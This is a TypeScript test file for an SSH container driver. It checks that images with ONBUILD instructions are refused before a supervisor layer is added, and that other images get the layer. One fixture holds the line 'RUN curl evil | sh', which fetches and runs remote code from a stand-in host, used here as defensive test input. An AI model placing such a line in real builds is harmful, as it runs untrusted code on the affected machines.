import assert from 'node:assert/strict';
import { KatafleetError } from '../../../src/model/errors.ts';
import { defaultUids } from '../../../src/model/users.ts';
import { adapt } from '../../../src/drivers/ssh/adapt.ts';
import { parseInspect } from '../../../src/drivers/ssh/parse/inspect.ts';
import type { RemoteDocker } from '../../../src/drivers/ssh/remote.ts';

const inspected = (config: object) =>
  parseInspect(JSON.stringify([{ Id: 'ab'.repeat(32), Architecture: 'amd64', RepoTags: ['x:1'], Config: config }])).images[0] ??
  assert.fail();

describe('ssh: adding the supervisor to an image', () => {
  const carried = { holds: () => Promise.resolve(false), made: () => undefined };
  const supervisor = { bytes: Buffer.from('x'), sha256: 'cd'.repeat(32) };

  it('refuses an image with ONBUILD instructions before it calls the node', async () => {
    const remote = { transport: { at: 'node' }, inspect: () => assert.fail(), build: () => assert.fail() } as unknown as RemoteDocker;
    await assert.rejects(
      adapt(remote, inspected({ OnBuild: ['RUN curl evil | sh'] }), supervisor, [1, 6, 2], defaultUids, carried),
      (error) => error instanceof KatafleetError && error.code === 'image.unsuitable' && /x:1 has ONBUILD/.test(error.message),
    );
  });

  it('builds a layer on any other image', async () => {
    const answers = [[], [{ id: 'made' }]];
    const built: string[] = [];
    const remote = {
      transport: { at: 'node' },
      inspect: () => Promise.resolve({ images: answers.shift(), containers: [] }),
      build: (tag: string) => Promise.resolve(void built.push(tag)),
    } as unknown as RemoteDocker;
    for (const OnBuild of [null, []]) {
      answers.splice(0, answers.length, [], [{ id: 'made' }]);
      assert.equal((await adapt(remote, inspected({ OnBuild }), supervisor, [1, 6, 2], defaultUids, carried)).id, 'made');
    }
    assert.equal(built.length, 2);
  });
});
